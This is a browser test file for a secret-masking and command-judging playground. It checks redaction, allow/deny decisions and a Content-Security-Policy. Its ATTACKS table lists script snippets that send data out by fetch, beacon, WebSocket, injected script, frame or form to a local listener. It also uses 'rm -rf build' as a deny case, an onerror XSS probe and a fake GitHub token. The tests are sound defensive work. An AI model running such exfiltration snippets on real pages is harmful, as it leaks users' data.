/** The page of examples/playground in a real browser, built as `npm run playground` builds it. */
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { build, type PreviewServer, preview } from 'vite';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { describeWithChromium, type Page } from '../support/chromium.js';
import { startNode } from '../support/cli.js';
import { REPOSITORY } from '../support/copy.js';
import { HAS_WASM } from '../support/wasm.js';

const PAGE = path.join(REPOSITORY, 'examples/playground');
const SCREENSHOT = path.join(REPOSITORY, 'out/playground.png');
const POLICY = /<meta\s+http-equiv="Content-Security-Policy"[^>]*>/;

const TOKEN = ['gh', 'p_', 'Z9y8X7w6V5u4'.repeat(3)].join('');

/** Ways for a script in the page to send something, to `url`. */
const ATTACKS: Readonly<Record<string, (url: string) => string>> = {
  fetch: (url) => `void fetch('${url}', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => 0)`,
  'an image': (url) => `void (new Image().src = '${url}?secret')`,
  sendBeacon: (url) => `navigator.sendBeacon('${url}', 'secret')`,
  WebSocket: (url) => `void new WebSocket('${url.replace('http', 'ws')}')`,
  EventSource: (url) => `void new EventSource('${url}')`,
  'a script': (url) => `document.head.append(Object.assign(document.createElement('script'), { src: '${url}' }))`,
  'a frame': (url) => `document.body.append(Object.assign(document.createElement('iframe'), { src: '${url}' }))`,
  'a form': (url) => `{
    const form = Object.assign(document.createElement('form'), { action: '${url}', method: 'post' });
    document.body.append(form);
    form.submit();
  }`,
};

describeWithChromium('the playground', (browser) => {
  const folders = { built: '', unguarded: '' };
  const servers: PreviewServer[] = [];
  const origins = { built: '', unguarded: '' };
  let elsewhere: Server | undefined;
  let temporary: string;
  let page: Page;
  let requests: string[];
  let complaints: string[];

  async function serve(outDir: string): Promise<string> {
    const options = { root: PAGE, logLevel: 'silent', build: { outDir } } as const;
    const server = await preview({ ...options, preview: { host: '127.0.0.1', port: 0 } });
    servers.push(server);
    const address = server.httpServer.address();
    if (address === null || typeof address === 'string') throw new Error('the page is served nowhere');
    return `http://127.0.0.1:${address.port}/`;
  }

  beforeAll(async () => {
    temporary = mkdtempSync(path.join(tmpdir(), 'handrail-playground-'));
    folders.built = path.join(temporary, 'built');
    folders.unguarded = path.join(temporary, 'unguarded');
    await build({ root: PAGE, logLevel: 'silent', build: { outDir: folders.built } });
    cpSync(folders.built, folders.unguarded, { recursive: true });
    const index = path.join(folders.unguarded, 'index.html');
    const html = readFileSync(index, 'utf8');
    expect(html).toMatch(POLICY);
    writeFileSync(index, html.replace(POLICY, ''));
    origins.built = await serve(folders.built);
    origins.unguarded = await serve(folders.unguarded);
  });
  afterAll(async () => {
    await Promise.all(servers.map((server) => server.close()));
    rmSync(temporary, { recursive: true, force: true });
  });

  async function open(url: string, width = 1280): Promise<void> {
    requests = [];
    complaints = [];
    page = await browser().newPage({ viewport: { width, height: 800 } });
    page.on('request', (request) => requests.push(request.url()));
    page.on('console', (message) => complaints.push(message.text()));
    page.on('pageerror', (error) => complaints.push(error.message));
    await page.goto(url);
  }
  afterEach(async () => {
    await page.close();
    elsewhere?.close();
  });

  /** Another origin, and what it was sent. A browser may connect for a frame that it then blocks, and sends nothing. */
  async function listen(): Promise<{ url: string; received: () => string }> {
    let all = '';
    const server = createServer((socket) => {
      socket
        .on('error', () => undefined)
        .on('data', (bytes) => {
          all += bytes;
          socket.end();
        });
    });
    elsewhere = server;
    await new Promise<void>((resolve) => {
      server.listen(0, '127.0.0.1', resolve);
    });
    const address = server.address();
    if (address === null || typeof address === 'string') throw new Error('it listens nowhere');
    return { url: `http://127.0.0.1:${address.port}/`, received: () => all };
  }

  const text = (selector: string) => page.textContent(selector);
  const shown = (selector: string) => expect.poll(() => text(selector));

  describe('as it is served', () => {
    it('shows what a model reads of the sample, and takes a picture', async () => {
      await open(origins.built);
      await page.waitForSelector('#model mark');
      expect(await text('#model')).toContain('DATABASE_URL=postgres://shop:[REDACTED:url-password]@db');
      expect(await text('#model')).toMatch(/\[\d+ lines like this]/);
      expect(await text('#rules')).toContain('url-password2');
      mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
      const picture = await page.screenshot({ path: SCREENSHOT });
      expect(picture.subarray(1, 4).toString()).toBe('PNG');
    });

    it('masks what is typed, names the rules, and sends nothing', async () => {
      await open(origins.built);
      await page.waitForSelector('#model mark');
      const loaded = requests.length;
      await page.fill('#log', `deploying with ${TOKEN}\npassword=hunter2\n`);
      await shown('#model').toBe('deploying with [REDACTED:github-token]\npassword=[REDACTED:password]\n');
      expect(await text('#rules')).toBe('github-token1password1');
      expect(await text('#figures')).toBe('Lines2 → 2Characters73 → 68Masked2');
      await page.fill('#log', 'nothing to see');
      await shown('#figures').toContain('Maskednothing found');
      await page.fill('#log', '');
      await shown('#model').toBe('Nothing to read yet.');
      await page.click('#command-tab');
      await page.fill('#line', 'git status; rm -rf build');
      await shown('#decision').toContain('deny');
      expect(requests.slice(loaded)).toEqual([]);
      expect(requests.filter((url) => !url.startsWith(origins.built))).toEqual([]);
      expect(complaints).toEqual([]);
    });

    it('shows HTML that was pasted as text', async () => {
      const html = '<img src=x onerror="document.title=1"><b>bold</b>';
      await open(origins.built);
      await page.waitForSelector('#model mark');
      await page.fill('#log', html);
      await shown('#model').toBe(html);
      await page.click('#command-tab');
      await page.fill('#line', html);
      await shown('#reasons pre').toContain('<img');
      expect(await page.evaluate("document.querySelectorAll('main img, main pre b').length")).toBe(0);
      expect(complaints).toEqual([]);
    });

    it('shortens to the budget', async () => {
      await open(origins.built);
      await page.waitForSelector('#model mark');
      const before = (await text('#model'))?.length ?? 0;
      await page.fill('#tokens', '100');
      await expect.poll(async () => (await text('#model'))?.length).toBeLessThan(before / 2);
      expect(await text('#budget')).toBe('100');
    });

    it('takes 5 MB, pasted, and a file with carriage returns, beside the text area', async () => {
      await open(origins.built);
      await page.waitForSelector('#model mark');
      await page.evaluate(`{
        const clipboardData = new DataTransfer();
        clipboardData.setData('text/plain', 'x'.repeat(99).concat('\\n').repeat(50_000) + 'password=hunter2');
        const log = document.querySelector('#log');
        log.select();
        log.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
      }`);
      await shown('#figures').toContain('Lines50,001 →');
      expect(await text('#held')).toContain('Pasted text, 5.00 MB');
      expect(await text('#model')).toContain('password=[REDACTED:password]');
      const buffer = Buffer.from('10%\r100%\n');
      await page.setInputFiles('#file', { name: 'bar.log', mimeType: 'text/plain', buffer });
      await shown('#model').toBe('100%\n');
      await page.click('#clear');
      await shown('#model').toBe('Nothing to read yet.');
      expect(await page.isVisible('#log')).toBe(true);
    });

    it('opens a file that is dropped on it, and does not leave the page', async () => {
      await open(origins.built);
      await page.waitForSelector('#model mark');
      await page.click('#command-tab');
      await page.fill('#line', 'git status');
      const drop = (...files: string[]) =>
        page.evaluate(`{
          const dataTransfer = new DataTransfer();
          for (const file of [${files.join()}]) dataTransfer.items.add(file);
          const event = (type) => new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true });
          const line = document.querySelector('#line');
          [line.dispatchEvent(event('dragover')), line.dispatchEvent(event('drop'))];
        }`);
      // False says that the browser's own answer to a file, to show it in place of the page, was prevented.
      expect(await drop("new File(['password=hunter2\\r\\n'], 'build.log')")).toEqual([false, false]);
      await shown('#model').toBe('password=[REDACTED:password]\n');
      expect(await text('#held')).toContain('build.log, 0.00 MB');
      expect(await page.isVisible('#log')).toBe(false);
      expect(await page.evaluate("document.body.classList.contains('dropping')")).toBe(false);
      // Text that is dragged into a text area is the browser's to insert.
      expect(await drop()).toEqual([true, true]);
      expect(
        await drop("Object.assign(new File([], 'src'), { slice: () => ({ arrayBuffer: () => Promise.reject(1) }) })"),
      ).toEqual([false, false]);
      expect(complaints).toEqual([]);
    });

    it('says why a command may not run, and where that stands in it', async () => {
      await open(origins.built);
      await page.waitForSelector('#model mark');
      await page.press('#output-tab', 'ArrowRight');
      await shown('#decision').toContain('✓ allow');
      await page.fill('#line', 'git status; rm -rf build');
      await shown('#decision').toBe('✕ denyIt may not run; the model reads why.');
      expect(await text('#reasons li')).toContain("list.not_allowed about rmCommand 'rm' is not allowed");
      expect(await text('#reasons mark')).toBe('rm');
      await page.fill('#allow', 'git push');
      await page.fill('#line', 'git push --force');
      await shown('#decision').toContain('? ask');
      await page.fill('#root', 'relative');
      await shown('#decision').toContain('absolute path');
      await page.fill('#root', '');
      await page.fill('#line', 'ls '.repeat(30_000));
      await shown('#reasons li').toContain('hygiene.length');
      expect(await text('#reasons pre')).toBe(`${'ls '.repeat(200)}…`);
      await page.fill('#line', ' ');
      await shown('#decision').toBe('No command to judge yet.');
      expect(complaints).toEqual([]);
    });

    it('fits a telephone', async () => {
      await open(origins.built, 390);
      await page.waitForSelector('#model mark');
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
      await page.click('#command-tab');
      await page.waitForSelector('#reasons li');
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
    });

    it('says that the module could not be loaded, and tries again', async () => {
      await open('about:blank');
      await page.route('**/*.wasm', (route) => route.abort());
      await page.goto(origins.built);
      await shown('#failure').toContain('could not be loaded');
      expect(await page.isVisible('#loading')).toBe(false);
      await page.unroute('**/*.wasm');
      await page.click('#retry');
      await page.waitForSelector('#model mark');
      expect(await page.isVisible('#failed')).toBe(false);
    });
  });

  describe.each(Object.entries(ATTACKS))('a script that sends something by %s', (_name, attack) => {
    it('reaches no other origin', async () => {
      const { url, received } = await listen();
      await open(origins.built);
      const blocked = page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.blockedURI), { once: true });
        ${attack(url)};
      })`);
      expect(await blocked).toContain(new URL(url).host);
      await page.close();
      expect(received()).toBe('');
    });

    it('reaches one where the page has no policy', async () => {
      const { url, received } = await listen();
      await open(origins.unguarded);
      await page.evaluate(attack(url));
      await expect.poll(received).toMatch(/^(GET|POST) /);
    });
  });
});

describe('npm run playground', () => {
  it.skipIf(!HAS_WASM)(`serves the page until Ctrl-C${HAS_WASM ? '' : ' (skipped: no WASM module)'}`, async () => {
    const { child, ended } = startNode(['scripts/playground.mjs']);
    try {
      const url = await new Promise<string>((resolve, reject) => {
        let said = '';
        child.stdout?.on('data', (text: string) => {
          said += text;
          const [address] = /http:\/\/127\.0\.0\.1:\d+\//.exec(said) ?? [];
          if (address !== undefined) resolve(address);
        });
        child.on('close', () => reject(new Error(`it ended early: ${said}`)));
      });
      expect(await (await fetch(url)).text()).toContain('<title>Handrail playground</title>');
    } finally {
      child.kill('SIGINT');
    }
    expect(await ended).toMatchObject({ code: 0, stderr: '' });
  });
});
